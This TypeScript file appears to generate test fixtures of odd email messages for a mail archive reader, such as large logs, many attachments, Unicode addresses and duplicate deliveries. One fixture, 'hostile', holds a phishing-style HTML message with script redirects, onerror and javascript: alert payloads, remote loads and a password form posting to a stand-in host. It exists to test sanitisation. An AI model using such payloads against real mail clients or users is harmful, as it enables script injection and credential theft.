import { fileNamed } from './attachments/files.ts'
import { DAY, HOUR, headerDate } from './calendar.ts'
import type { Draft } from './draft.ts'
import { GROUPS, INFO } from './mailboxes.ts'
import { broken } from './malformed.ts'
import { amelie, birgit, info, ingrid, jonas, marta, tomasz } from './notable/cast.ts'
import { DOMAIN } from './people.ts'
import type { Random } from './random.ts'
import type { SampleMessage } from './types.ts'
import { type Written, written } from './written.ts'

/** Local part of an address that nobody made: its mail is kept as unassigned (SPEC I8). */
export const UNASSIGNED = `purchasing@${DOMAIN}`

/** Messages that are rare in an archive and must not be in its way. */
export function oddities(now: number, random: Random): Draft[] {
  return [
    ...broken(now),
    ...[
      huge(now, random),
      twelve(now),
      unassigned(now),
      plus(now),
      hostile(now),
      forwarded(now),
      unicode(now),
    ].map(written),
    ...copies(now),
  ]
}

/** Some 700 kB of plain text: an engine log. */
function huge(now: number, random: Random): Written {
  const lines = Array.from({ length: 9_600 }, (_, index) => {
    const minute = new Date(now - 40 * DAY + index * 60_000).toISOString().slice(0, 16)
    return `${minute}Z  ME1 rpm ${random.int(708, 752)}  exhaust ${random.int(352, 398)} C  lub oil ${(random.int(38, 46) / 10).toFixed(1)} bar  fuel ${random.int(402, 460)} l/h`
  })
  return {
    from: tomasz,
    to: [marta],
    subject: 'Engine log MS Karlsö, one week, every minute',
    at: now - 33 * DAY,
    charset: 'us-ascii',
    text: `Marta, here is the log that the yard asked for. Search for 398 to find the hot spots.\n\nTomasz\n\n${lines.join('\n')}`,
  }
}

function twelve(now: number): Written {
  const endings = ['pdf', 'png', 'jpg', 'xlsx', 'txt', 'csv']
  return {
    from: jonas,
    to: [marta, tomasz],
    cc: [info],
    subject: 'All papers for the inspection, twelve files',
    at: now - 12 * DAY,
    html: true,
    text: 'Here is everything in one go:\n\n- six papers on the berths\n- six on the vessel\n\nThe numbers are those of the checklist.\n\nJonas',
    files: Array.from({ length: 12 }, (_, index) => {
      const name = `${String(index + 1).padStart(2, '0')}_Inspection_${index % 2 === 0 ? 'berth' : 'vessel'}.${endings[index % 6]}`
      return fileNamed(
        name,
        `Inspection paper ${index + 1}`,
        [
          ['Paper', index + 1],
          ['State', 'complete'],
        ],
        index,
      )
    }),
  }
}

function unassigned(now: number): Written {
  const house = {
    name: 'Purchasing',
    address: UNASSIGNED,
    first: '',
    signs: '',
    signature: [],
    internal: true,
    offset: 60,
  }
  return {
    from: ingrid,
    to: [house],
    subject: 'Order for paint, who takes it over?',
    at: now - 16 * DAY,
    text: 'Good morning,\n\nwe were given this address for orders. Does it exist already?\n\nIngrid Solheim',
  }
}

function plus(now: number): Written {
  return {
    from: amelie,
    to: [{ ...marta, address: `marta.lindqvist+fahrplan@${DOMAIN}`, internal: false }],
    besides: [marta.address],
    subject: 'Fahrplan: an die Plus-Adresse',
    at: now - 20 * DAY,
    text: 'Hallo Marta,\n\ndeine Adresse mit dem Plus landet hoffentlich im selben Fach.\n\nAmélie',
  }
}

/** What a reader must survive: script, form, navigation, remote loads of every kind. */
function hostile(now: number): Written {
  return {
    from: { ...ingrid, name: 'Prize Department', address: 'win@lucky-quay.example' },
    to: [info],
    subject: 'You have won a lighthouse',
    at: now - 9 * DAY,
    text: 'You have won a lighthouse. Open this message as HTML.',
    html: `<html><head><meta http-equiv="refresh" content="0;url=https://lucky-quay.example/"><base href="https://lucky-quay.example/"><link rel="stylesheet" href="https://lucky-quay.example/a.css"><style>body{background:url(https://lucky-quay.example/b.png)}@import url(https://lucky-quay.example/c.css);</style></head>
<body onload="document.title='taken over'"><script>top.location='https://lucky-quay.example/'</script>
<h1 style="position:fixed;top:0;left:0;width:100%;color:#b00020">You have won a lighthouse</h1>
<form action="https://lucky-quay.example/claim" method="post"><input name="password" type="password" autofocus><button>Claim</button></form>
<img src="x" onerror="alert(1)"><svg onload="alert(2)"></svg><iframe src="https://lucky-quay.example/"></iframe>
<a href="javascript:alert(3)" target="_top">Details</a> <a href="https://lucky-quay.example/claim">www.lindhaven.example</a>
<video poster="https://lucky-quay.example/d.jpg" src="https://lucky-quay.example/e.mp4"></video></body></html>
`,
  }
}

function forwarded(now: number): Written {
  const inner = `From: Breck Marine Parts <orders@breckmarine.example>\r\nTo: info@${DOMAIN}\r\nSubject: Two crates at the wrong quay\r\nDate: ${headerDate(now - 15 * DAY, 0)}\r\nMessage-ID: <crates@breckmarine.example>\r\n\r\nTwo crates for MS Gotska stand at the fish quay.\r\n`
  return {
    from: jonas,
    to: [marta],
    subject: 'WG: Two crates at the wrong quay',
    at: now - 14 * DAY,
    text: 'Siehe unten, ich hole sie heute.\n\nJonas',
    files: [{ name: 'Two crates at the wrong quay.eml', type: 'message/rfc822', bytes: Buffer.from(inner) }],
  }
}

/** SMTPUTF8 (RFC 6531): letters beyond ASCII in the address itself. */
function unicode(now: number): Written {
  return {
    from: { ...ingrid, name: 'Møller', address: 'møller@fähre.example' },
    to: [info],
    subject: 'Fährt die Fähre mit Fahrrädern? 🚲',
    at: now - 8 * DAY,
    text: 'Hei,\n\nmeine Adresse hat zwei Buchstaben, die nicht jeder kennt. Kommt diese Nachricht an?\n\nMøller',
  }
}

/** One message, arriving three times: the sender's copy with its Bcc, and twice through different gateways. */
function copies(now: number): Draft[] {
  const sentAt = now - 10 * DAY
  const body = `From: Birgit Aalto <${birgit.address}>\r\nTo: Info Desk <${INFO.address}>\r\nCc: Group travel <${GROUPS.address}>\r\n`
  const rest = `Subject: Noise on the car deck, measurements\r\nDate: ${headerDate(sentAt, 60)}\r\nMessage-ID: <noise.measurements@${DOMAIN}>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nThe measurements of the car deck are done: 84 dB at the ramp.\r\nTwo places need ear protection from now on.\r\n\r\nBirgit\r\n`
  const trace = (to: string, hops: readonly string[]) =>
    `Delivered-To: ${to}\r\nX-Original-To: ${to}\r\n${hops.map((hop, index) => `Received: from ${hop}\r\n\tby mx${index + 1}.${DOMAIN} with ESMTPS id 8Q${index}${hop.length}\r\n\tfor <${to}>; ${headerDate(sentAt + (3 - index) * 1000, 60)}\r\n`).join('')}`
  const arrival = (head: string, to: string, delay: number): SampleMessage => ({
    raw: Buffer.from(head + rest, 'latin1'),
    to: [to],
    from: birgit.address,
    acceptedAt: sentAt + delay,
    receivedAt: sentAt + delay,
  })
  return [
    arrival(`${body}Bcc: Marta Lindqvist <${marta.address}>\r\n`, birgit.address, 2_000),
    arrival(
      trace(INFO.address, [
        'relay-a.lindhaven.example',
        'relay-b.lindhaven.example',
        'desk.lindhaven.example',
      ]) + body,
      INFO.address,
      5_000,
    ),
    arrival(
      trace(GROUPS.address, ['relay-c.lindhaven.example', 'desk.lindhaven.example']) + body,
      GROUPS.address,
      9_000,
    ),
    arrival(
      trace(marta.address, ['relay-a.lindhaven.example', 'desk.lindhaven.example']) + body,
      marta.address,
      HOUR,
    ),
  ].map((message) => ({ at: message.acceptedAt, make: () => message }))
}
